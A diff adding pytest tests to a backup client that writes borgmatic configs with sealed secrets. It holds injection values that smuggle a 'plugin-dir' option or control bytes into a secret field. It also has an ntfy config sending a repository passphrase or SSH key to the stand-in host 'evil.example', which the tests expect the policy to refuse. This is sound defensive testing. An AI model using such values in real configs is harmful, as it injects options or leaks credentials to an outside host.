@@ -10,13 +10,14 @@ import sys
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from client.apply import STAGED, Applier, BorgmaticRefuses, FileConflict
 from client.borgmatic import BorgmaticMissing
 from client.policy import Policy
-from schema.desired import DesiredState, SealedSecret
+from schema.desired import DesiredState, SealedSecret, ssh_command
 from schema.errors import PolicyDenied, TerminalError, TransientError, TrustError
 from schema.resources import Directories
 from tests.client import machine
@@ -192,6 +193,94 @@ async def test_a_secret_that_cannot_be_opened_is_refused(tmp_path):
     state = machine.state(tmp_path, revision="two", secrets=("db",))
 
     await refused(tmp_path, state, by=applier(tmp_path, opens=cannot_open), error=TrustError)
+
+
+USES = """\
+source_directories:
+  - /etc
+keep_daily: 7
+encryption_passphrase: "{{credential file {state}/secrets/nas.key}}"
+ssh_command: {ssh}
+"""
+
+
+def using(base: Path, *, options: str = USES, **changes: Any) -> DesiredState:
+    """Return a state whose secret ``nas.key`` is a passphrase, and ``ssh.key`` an ssh key; ``free.key`` is unused."""
+    own = f"{base}/var"
+    text = options.format(state=own, ssh=ssh_command(key_path=f"{own}/secrets/ssh.key", known_hosts=None))
+    return machine.state(base, files={"web": machine.config(options=text)}, **changes)
+
+
+LINES = (b"x\nplugin-dir=/srv", b"x\rplugin-dir=/srv", b"x\n\n", b"\nx")
+NEVER = (b"a\x00b", b"a\x1bb", b"a\x7fb", b"\x7fELF\x02x")
+
+
+@pytest.mark.parametrize(
+    "name, value",
+    [*((name, value) for name in ("nas", "free") for value in LINES + NEVER), *(("ssh", value) for value in NEVER)],
+)
+async def test_a_secret_that_would_be_more_than_its_option_is_refused(tmp_path, name, value):
+    state = using(tmp_path, revision="two", secrets=(name,))
+    by = applier(tmp_path, opens=lambda secret, client: value)
+
+    error = await refused(tmp_path, state, by=by, error=TerminalError)
+
+    assert f"'{name}.key'" in str(error)
+    assert "plugin-dir" not in str(error)
+    assert "seal" in str(error)
+
+
+async def test_an_ssh_key_has_lines(tmp_path):
+    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
+
+    await applier(tmp_path, opens=lambda secret, client: key).apply(using(tmp_path, secrets=("ssh",)), persist=nothing)
+
+    assert (tmp_path / "var/secrets/ssh.key").read_bytes() == key
+
+
+@pytest.mark.parametrize("value", [b"one line", b"one line\n", b"one line\r\n", "pässword".encode()])
+async def test_a_secret_of_one_line_passes(tmp_path, value):
+    await applier(tmp_path, opens=lambda secret, client: value).apply(
+        using(tmp_path, secrets=("nas",)), persist=nothing
+    )
+
+    assert (tmp_path / "var/secrets/nas.key").read_bytes() == value
+
+
+NTFY = """\
+source_directories:
+  - /etc
+keep_daily: 7
+ntfy: {{topic: t, server: "https://evil.example", password: "{{credential file {state}/secrets/%s.key}}"}}
+"""
+
+
+@pytest.mark.parametrize("name", ["nas", "ssh"])
+async def test_what_was_the_secret_of_a_repository_is_never_sent_away(tmp_path, name):
+    directories = Directories(config=str(tmp_path / "etc"), state=str(tmp_path / "var"))
+    own = Applier(
+        program=machine.program("accepts"), directories=directories, policy=Policy(send_to=("*",)), unseal=unseal
+    )
+    await own.apply(using(tmp_path, secrets=("nas", "ssh")), persist=nothing)
+    await own.apply(machine.state(tmp_path, revision="two", secrets=("nas", "ssh")), persist=nothing)
+    before = tree(tmp_path)
+
+    with pytest.raises(PolicyDenied, match="the secret of a repository"):
+        await own.apply(using(tmp_path, options=NTFY % name, revision="three", secrets=(name,)), persist=nothing)
+
+    assert tree(tmp_path) == before
+    await own.apply(using(tmp_path, options=NTFY % "free", revision="three", secrets=("free",)), persist=nothing)
+
+
+async def test_names_of_repository_secrets_that_cannot_be_read_are_told(tmp_path):
+    await apply(tmp_path, using(tmp_path, secrets=("nas",)))
+    path = tmp_path / "var/repository-secrets.json"
+    assert b"opened" not in path.read_bytes()
+    assert path.stat().st_mode & 0o777 == 0o600
+    path.write_text("[")
+
+    with pytest.raises(TerminalError, match=r"repository-secrets\.json is damaged"):
+        await apply(tmp_path, using(tmp_path, secrets=("nas",)))
 
 
 async def test_a_revision_that_breaks_the_header_is_refused(tmp_path):
